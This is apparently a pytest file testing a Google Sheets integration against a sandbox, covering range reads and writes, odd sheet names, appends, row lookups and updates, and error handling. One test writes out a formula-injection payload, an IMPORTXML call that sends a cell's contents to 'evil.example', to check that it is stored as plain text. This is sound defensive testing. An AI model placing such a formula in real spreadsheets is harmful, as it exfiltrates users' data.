"""Google Sheets through the one door against the sandbox."""

from __future__ import annotations

from typing import Any

import pytest

from integrations.tests.google_account import VENDOR_ERRORS, GoogleAccount
from integrations.tests.google_checks import asks_to_connect_again, knows_a_missing_scope, reads_to_the_end, tells_apart

YARA = "yara.keller@globex.example"
STRANGE = "Mara's plans, 2031!"


@pytest.fixture
def yara(sandbox: str, redis_server: object) -> GoogleAccount:
    return GoogleAccount(sandbox, YARA)


@pytest.fixture
def book(yara: GoogleAccount) -> dict[str, Any]:
    """A spreadsheet with an empty sheet and one that has a strange name; its id for every call."""
    made = yara.run("google_sheets.create_spreadsheet", title="Book", sheets=["Items", STRANGE])
    return {"spreadsheet_id": made["spreadsheet_id"]}


def shown(yara: GoogleAccount, book: dict[str, Any], text: str, **more: object) -> list[list[Any]]:
    return list(yara.run("google_sheets.read_range", **book, range=text, **more)["values"])


def test_what_is_written_is_read(yara: GoogleAccount, book: dict[str, Any]) -> None:
    rows = [["Item", "Price"], ["Lamp", 45], ["Desk", True]]
    written = yara.run("google_sheets.write_range", **book, range="Items!A1", values=rows)
    assert (written["updated_range"], written["updated_rows"], written["updated_cells"]) == ("Items!A1:B3", 3, 6)
    assert shown(yara, book, "Items!A1:B3") == [["Item", "Price"], ["Lamp", "45"], ["Desk", "TRUE"]]
    assert shown(yara, book, "Items", value_render="unformatted") == rows


def test_null_leaves_a_cell_and_an_empty_text_clears_it(yara: GoogleAccount, book: dict[str, Any]) -> None:
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[["a", "b", "c"]])
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[[None, "", "x"]])
    assert shown(yara, book, "Items!A1:C1") == [["a", "", "x"]]


def test_empty_cells_at_the_end_do_not_shift_columns(yara: GoogleAccount, book: dict[str, Any]) -> None:
    rows = [["Item", "Price", "Note"], ["Lamp"], ["", "5"], ["Desk", "7", "big"]]
    yara.run("google_sheets.write_range", **book, range="Items!B1", values=rows)
    read = yara.run("google_sheets.read_range", **book, range="Items!B1:E9", as_records=True)
    assert [len(row) for row in read["values"]] == [4, 4, 4, 4]
    assert read["header"] == ["Item", "Price", "Note", "E"]
    assert read["records"][:2] == [
        {"Item": "Lamp", "Price": "", "Note": "", "E": ""},
        {"Item": "", "Price": "5", "Note": "", "E": ""},
    ]


@pytest.mark.parametrize("text", [f"'{STRANGE.replace(chr(39), chr(39) * 2)}'!A1", f"{STRANGE}!A1"])
def test_sheets_with_quotes_spaces_and_exclamation_marks(yara: GoogleAccount, book: dict[str, Any], text: str) -> None:
    yara.run("google_sheets.write_range", **book, range=text, values=[["here"]])
    assert shown(yara, book, "A:A", sheet_id=STRANGE) == [["here"]]
    assert shown(yara, book, "Items") == []


def test_a_sheet_with_a_slash_in_its_name(yara: GoogleAccount, book: dict[str, Any]) -> None:
    made = yara.run("google_sheets.add_sheet", **book, title="Q1/Q2 ..")
    yara.run("google_sheets.write_range", **book, range="'Q1/Q2 ..'!B2", values=[["x"]])
    place = {**book, "sheet_id": made["sheet_id"]}
    yara.run("google_sheets.insert_rows", **place, row=1, values=[["No", "Who"]])
    yara.run("google_sheets.write_range", **place, range="A3", values=[["y"]])
    yara.run("google_sheets.update_row_by_key", **place, key="y", fields={"Who": "Mara"})
    assert shown(yara, place, "") == [["No", "Who"], ["", ""], ["y", "Mara"]]
    assert yara.run("google_sheets.clear_range", **place, range="A3")["cleared_range"] == "'Q1/Q2 ..'!A3"
    refused = yara.outcome("google_sheets.append_rows", {**place, "values": [["z"]]})
    assert refused.error is not None
    assert "has a slash in the name of its sheet" in str(refused.error["errors"])


def test_a_sheet_is_named_by_its_id_or_its_name(yara: GoogleAccount, book: dict[str, Any]) -> None:
    sheets = yara.run("google_sheets.list_sheets", **book)["sheets"]
    yara.run("google_sheets.write_range", **book, sheet_id=sheets[1]["sheet_id"], range="A1", values=[["by id"]])
    assert shown(yara, book, "", sheet_id=STRANGE) == [["by id"]]
    refused = yara.outcome("google_sheets.delete_rows", {**book, "sheet_id": "Nowhere", "row": 1})
    assert refused.error is not None
    assert f"there is no sheet 'Nowhere'; the spreadsheet has 'Items', {STRANGE!r}" in str(refused.error["detail"])


def test_whole_columns_rows_and_named_ranges(yara: GoogleAccount) -> None:
    orders = {"spreadsheet_id": next(iter_orders(yara))}
    stock = yara.run("google_sheets.read_range", **orders, range="Stock", as_records=True)
    assert stock["range"] == "'What''s left!'!A1:C4"
    assert stock["records"][0] == {"Item": "Lamp", "Left": "14", "Reorder at": "10"}
    column = yara.run("google_sheets.read_range", **orders, range="Orders!C:C")
    assert column["values"][:2] == [["Item"], ["Lamp"]]
    row = yara.run("google_sheets.read_range", **orders, range="Orders!1:1")
    assert row["values"][0][-1] == "Note"
    by_columns = yara.run("google_sheets.read_range", **orders, range="Orders!B1:C3", by_columns=True)
    assert by_columns["values"] == [["Customer", "Northwind", "Globex"], ["Item", "Lamp", "Desk"]]


def iter_orders(yara: GoogleAccount) -> Any:
    for each in yara.run("google_sheets.list_spreadsheets", query="Orders")["spreadsheets"]:
        yield each["spreadsheet_id"]


def test_several_ranges_are_read_and_written_at_once(yara: GoogleAccount, book: dict[str, Any]) -> None:
    more = [{"range": "Items!C3", "values": [["c"]]}]
    written = yara.run("google_sheets.write_range", **book, range="Items!A1", values=[["a"]], more=more)
    assert (written["updated_ranges"], written["updated_cells"]) == (["Items!A1", "Items!C3"], 2)
    read = yara.run("google_sheets.read_ranges", **book, ranges=["Items!A1:B1", "Items!C:C"])
    assert [each["values"] for each in read["ranges"]] == [[["a", ""]], [[""], [""], ["c"]]]


def test_days_are_serial_numbers_only_among_unformatted_values(yara: GoogleAccount, book: dict[str, Any]) -> None:
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[["2026-03-09", "5%"]])
    assert shown(yara, book, "Items!A1:B1") == [["2026-03-09", "5%"]]
    assert shown(yara, book, "Items!A1:B1", value_render="unformatted") == [[46090, 0.05]]
    assert shown(yara, book, "Items!A1:B1", value_render="unformatted", dates="text") == [["2026-03-09", 0.05]]


def test_nobodys_text_becomes_a_formula_unless_asked_for(yara: GoogleAccount, book: dict[str, Any]) -> None:
    evil = '=IMPORTXML("https://evil.example/?"&A1)'
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[[evil, "+49 151 1", "007"]])
    assert shown(yara, book, "Items!A1:C1", value_render="formula") == [[evil, "+49 151 1", "007"]]
    yara.run("google_sheets.write_range", **book, range="Items!A2", values=[["=1+1"]], formulas=True)
    grid = yara.run("google_sheets.read_range", **book, range="Items!A1:C2", value_render="unformatted")
    assert grid["values"][1][0] == "=1+1"


def test_rows_are_cleared_and_nothing_moves(yara: GoogleAccount, book: dict[str, Any]) -> None:
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[["a", "b"], ["c", "d"]])
    cleared = yara.run("google_sheets.clear_range", **book, range="Items!A1:A2")
    assert cleared["cleared_range"] == "Items!A1:A2"
    assert shown(yara, book, "Items") == [["", "b"], ["", "d"]]


def test_records_are_appended_under_their_titles(yara: GoogleAccount, book: dict[str, Any]) -> None:
    first = [{"Item": "Lamp", "Price": 45}, {"Price": 7, "Note": "big"}]
    made = yara.run("google_sheets.append_rows", **book, sheet_id="Items", records=first)
    added = yara.run("google_sheets.append_rows", **book, sheet_id="Items", records=[{"Note": "new", "item": "Desk"}])
    assert (made["updated_rows"], added["first_row"], added["table_range"]) == (3, 4, "Items!A1:C3")
    assert added["updated_range"] == "Items!A4:C4"
    assert shown(yara, book, "Items") == [
        ["Item", "Price", "Note"],
        ["Lamp", "45", ""],
        ["", "7", "big"],
        ["Desk", "", "new"],
    ]


def test_a_title_that_is_not_there_is_refused_and_nothing_is_appended(
    yara: GoogleAccount, book: dict[str, Any]
) -> None:
    yara.run("google_sheets.append_rows", **book, sheet_id="Items", records=[{"Item": "Lamp"}])
    refused = yara.outcome("google_sheets.append_rows", {**book, "sheet_id": "Items", "records": [{"Prise": 1}]})
    assert refused.error is not None
    assert "no column is called 'Prise'; the header row has 'Item'" in str(refused.error["errors"])
    assert shown(yara, book, "Items") == [["Item"], ["Lamp"]]


def test_rows_that_land_in_the_wrong_column_are_moved_under_their_titles(
    yara: GoogleAccount, book: dict[str, Any]
) -> None:
    """A note to the left of the table makes it begin there for Google."""
    rows = [["", "Item", "Price"], ["", "Lamp", 45], ["ask Mara", "Desk", 7]]
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=rows)
    outcome = yara.outcome(
        "google_sheets.append_rows", {**book, "sheet_id": "Items", "records": [{"Item": "Chair", "Price": 9}]}
    )
    assert outcome.result is not None
    assert outcome.result["updated_range"] == "'Items'!B4:C4"
    assert "moved under their titles" in str(outcome.result["warnings"])
    assert shown(yara, book, "Items")[3] == ["", "Chair", "9"]


def test_what_stands_below_the_table_is_not_overwritten(yara: GoogleAccount, book: dict[str, Any]) -> None:
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[["Item"], ["Lamp"], [], ["Sum: 1"]])
    yara.run("google_sheets.append_rows", **book, sheet_id="Items", values=[["Desk"], ["Chair"]])
    assert shown(yara, book, "Items") == [["Item"], ["Lamp"], ["Desk"], ["Chair"], [""], ["Sum: 1"]]


def test_tables_side_by_side_are_told_apart_by_their_headers(yara: GoogleAccount, book: dict[str, Any]) -> None:
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[["Item", "", "Who"], ["Lamp", "", "Mara"]])
    yara.run("google_sheets.append_rows", **book, range="Items!C1", records=[{"Who": "Jonas"}])
    assert shown(yara, book, "Items") == [["Item", "", "Who"], ["Lamp", "", "Mara"], ["", "", "Jonas"]]


def fill(yara: GoogleAccount, book: dict[str, Any]) -> dict[str, Any]:
    rows = [["No", "Who", "Sum"], [7, "Mara", "$45.00"], ["007", "Jonas", 8], ["A-1", "Mara", 9]]
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=rows)
    return {**book, "sheet_id": "Items"}


def test_rows_are_found_by_a_column(yara: GoogleAccount, book: dict[str, Any]) -> None:
    table = fill(yara, book)
    found = yara.run("google_sheets.find_row", **table, key_column="Who", key="Mara")
    assert [(each["row_number"], each["record"]["No"]) for each in found["rows"]] == [(2, "7"), (4, "A-1")]
    assert found["rows"][0]["record"] == {"No": "7", "Who": "Mara", "Sum": "$45.00"}
    first = yara.run("google_sheets.find_row", **table, key_column="C", key=45, max_results=1)
    assert (first["count"], first["total"], first["rows"][0]["row_number"]) == (1, 1, 2)
    assert yara.run("google_sheets.find_row", **table, key="nobody")["rows"] == []
    seven = yara.run("google_sheets.find_row", **table, key=7)["rows"]
    assert [each["row_number"] for each in seven] == [2]


def test_a_row_is_changed_by_its_key_and_only_where_it_was_given(yara: GoogleAccount, book: dict[str, Any]) -> None:
    table = fill(yara, book)
    changed = yara.run("google_sheets.update_row_by_key", **table, key="A-1", fields={"Sum": 10, "Who": None})
    assert (changed["row_number"], changed["updated_cells"]) == (4, 1)
    assert shown(yara, book, "Items")[3] == ["A-1", "Mara", "10"]
    yara.run("google_sheets.update_row_by_key", **table, key="A-1", fields={"Who": ""})
    assert shown(yara, book, "Items")[3] == ["A-1", "", "10"]


@pytest.mark.parametrize(
    ("params", "words"),
    [
        ({"key": "nobody", "fields": {"Sum": 1}}, "no row has 'nobody' in the column 'No'"),
        ({"key": "Mara", "key_column": "Who", "fields": {"Sum": 1}}, "2 rows have 'Mara' in the column 'Who'"),
        ({"key": "A-1", "fields": {"Summ": 1}}, "no column is called 'Summ'"),
        ({"key": "A-1", "key_column": "Number", "fields": {"Sum": 1}}, "no column is called 'Number'"),
    ],
)
def test_a_change_that_is_not_clear_is_refused_and_changes_nothing(
    yara: GoogleAccount, book: dict[str, Any], params: dict[str, Any], words: str
) -> None:
    table = fill(yara, book)
    before = shown(yara, book, "Items")
    refused = yara.outcome("google_sheets.update_row_by_key", {**table, **params})
    assert refused.error is not None
    assert refused.error["code"] == "input_error"
    assert words in str(refused.error["errors"])
    assert shown(yara, book, "Items") == before


def test_every_row_with_the_key_is_changed_where_that_is_wished(yara: GoogleAccount, book: dict[str, Any]) -> None:
    table = fill(yara, book)
    params = {"key_column": "Who", "key": "Mara", "fields": {"Sum": 0}, "all_rows": True}
    assert yara.run("google_sheets.update_row_by_key", **table, **params)["updated_rows"] == 2
    assert [row[2] for row in shown(yara, book, "Items")] == ["Sum", "0", "8", "0"]


def test_a_row_is_changed_or_added(yara: GoogleAccount, book: dict[str, Any]) -> None:
    table = fill(yara, book)
    changed = yara.run("google_sheets.upsert_row", **table, key="A-1", fields={"Sum": 10})
    added = yara.run("google_sheets.upsert_row", **table, key="A-2", fields={"Who": "Ines"})
    again = yara.run("google_sheets.upsert_row", **table, key="A-2", fields={"Sum": 1})
    assert [each["created"] for each in (changed, added, again)] == [False, True, False]
    assert [each["row_number"] for each in (changed, added, again)] == [4, 5, 5]
    assert shown(yara, book, "Items")[3:] == [["A-1", "Mara", "10"], ["A-2", "Ines", "1"]]


def test_rows_come_between_others_and_go(yara: GoogleAccount, book: dict[str, Any]) -> None:
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[["a"], ["b"]])
    table = {**book, "sheet_id": "Items"}
    made = yara.run("google_sheets.insert_rows", **table, row=2, values=[["new", "row"]], row_count=2)
    assert (made["first_row"], made["row_count"], made["updated_range"]) == (2, 2, "Items!A2:B2")
    assert shown(yara, book, "Items") == [["a", ""], ["new", "row"], ["", ""], ["b", ""]]
    yara.run("google_sheets.delete_rows", **table, row=2, row_count=2)
    assert shown(yara, book, "Items") == [["a"], ["b"]]
    refused = yara.outcome("google_sheets.delete_rows", {**table, "row": 1000, "row_count": 2})
    assert refused.error is not None
    assert "the sheet has 1000 rows" in str(refused.error["errors"])


def test_sheets_are_added_renamed_copied_and_deleted(yara: GoogleAccount, book: dict[str, Any]) -> None:
    added = yara.run("google_sheets.add_sheet", **book, title="Third", index=0, row_count=5, column_count=3)
    assert (added["index"], added["row_count"], added["column_count"]) == (0, 5, 3)
    renamed = yara.run("google_sheets.rename_sheet", **book, sheet_id="Third", title="First")
    assert (renamed["sheet_id"], renamed["title"]) == (added["sheet_id"], "First")
    copy = yara.run("google_sheets.copy_sheet", **book, sheet_id="First", title="Twin")
    assert copy["index"] == 1
    yara.run("google_sheets.delete_sheet", **book, sheet_id=added["sheet_id"])
    titles = [each["title"] for each in yara.run("google_sheets.list_sheets", **book)["sheets"]]
    assert titles == ["Twin", "Items", STRANGE]


def test_a_sheet_is_copied_into_another_spreadsheet(yara: GoogleAccount, book: dict[str, Any]) -> None:
    yara.run("google_sheets.write_range", **book, range="Items!A1", values=[["a"]])
    other = yara.run("google_sheets.create_spreadsheet", title="Other")["spreadsheet_id"]
    params = {**book, "sheet_id": "Items", "to_spreadsheet_id": other}
    assert yara.run("google_sheets.copy_sheet", **params)["title"] == "Copy of Items"
    named = yara.run("google_sheets.copy_sheet", **params, title="Twin")
    assert (named["title"], named["spreadsheet_id"]) == ("Twin", other)
    assert shown(yara, {"spreadsheet_id": other}, "Twin") == [["a"]]


def test_a_new_spreadsheet_has_its_sheets_and_titles(yara: GoogleAccount) -> None:
    made = yara.run(
        "google_sheets.create_spreadsheet",
        title="Ledger",
        sheets=["2031", "2032"],
        columns=["Day", "Sum"],
        locale="en_GB",
        time_zone="Europe/London",
    )
    described = yara.run("google_sheets.get_spreadsheet", spreadsheet_id=made["spreadsheet_id"])
    assert described == made
    assert (made["locale"], made["time_zone"]) == ("en_GB", "Europe/London")
    assert [each["title"] for each in made["sheets"]] == ["2031", "2032"]
    assert shown(yara, {"spreadsheet_id": made["spreadsheet_id"]}, "", sheet_id="2031") == [["Day", "Sum"]]
    plain = yara.run("google_sheets.create_spreadsheet", title="Plain", columns=["Day"])
    assert shown(yara, {"spreadsheet_id": plain["spreadsheet_id"]}, "") == [["Day"]]


def test_named_ranges_are_told(yara: GoogleAccount) -> None:
    (orders,) = iter_orders(yara)
    described = yara.run("google_sheets.get_spreadsheet", spreadsheet_id=orders)
    assert [(each["name"], each["range"]) for each in described["named_ranges"]] == [("Stock", "'What''s left!'!A1:C4")]


def test_spreadsheets_are_found_by_words_with_quotes(yara: GoogleAccount) -> None:
    yara.run("google_sheets.create_spreadsheet", title="Mara's \\ list")
    found = yara.run("google_sheets.list_spreadsheets", query="mara's \\")["spreadsheets"]
    assert [each["title"] for each in found] == ["Mara's \\ list"]
    assert found[0]["owner"] == YARA
    assert yara.run("google_sheets.list_spreadsheets", query="nothing like it")["spreadsheets"] == []


def test_spreadsheets_are_read_to_the_end(yara: GoogleAccount, book: dict[str, Any]) -> None:
    reads_to_the_end(yara, "google_sheets.list_spreadsheets", "spreadsheets", "spreadsheet_id")


def test_sheets_are_read_to_the_end(yara: GoogleAccount, book: dict[str, Any]) -> None:
    reads_to_the_end(yara, "google_sheets.list_sheets", "sheets", "sheet_id", **book)
    refused = yara.outcome("google_sheets.list_sheets", {**book, "page_token": "x"})
    assert refused.error is not None
    assert "is not the next_page_token" in str(refused.error["errors"])


@pytest.mark.parametrize(("answer", "code"), VENDOR_ERRORS)
def test_errors_of_the_vendor_are_told_apart(yara: GoogleAccount, answer: dict[str, object], code: str) -> None:
    tells_apart(yara, "google_sheets.list_spreadsheets", "drive.files.list", answer, code)


def test_errors_of_sheets_itself_are_told(yara: GoogleAccount, book: dict[str, Any]) -> None:
    for params in ({**book, "range": "Nowhere!A1"}, {"spreadsheet_id": "1unknown", "range": "A1"}):
        outcome = yara.outcome("google_sheets.read_range", params)
        assert outcome.error is not None
        assert outcome.error["code"] == "remote_rejected"


def test_a_dead_grant_asks_to_connect_again(yara: GoogleAccount) -> None:
    asks_to_connect_again(yara, "google_sheets.list_spreadsheets", "drive.files.list")


def test_a_missing_scope_is_known_before_google_is_asked(yara: GoogleAccount) -> None:
    knows_a_missing_scope(yara, "google_sheets.list_spreadsheets")
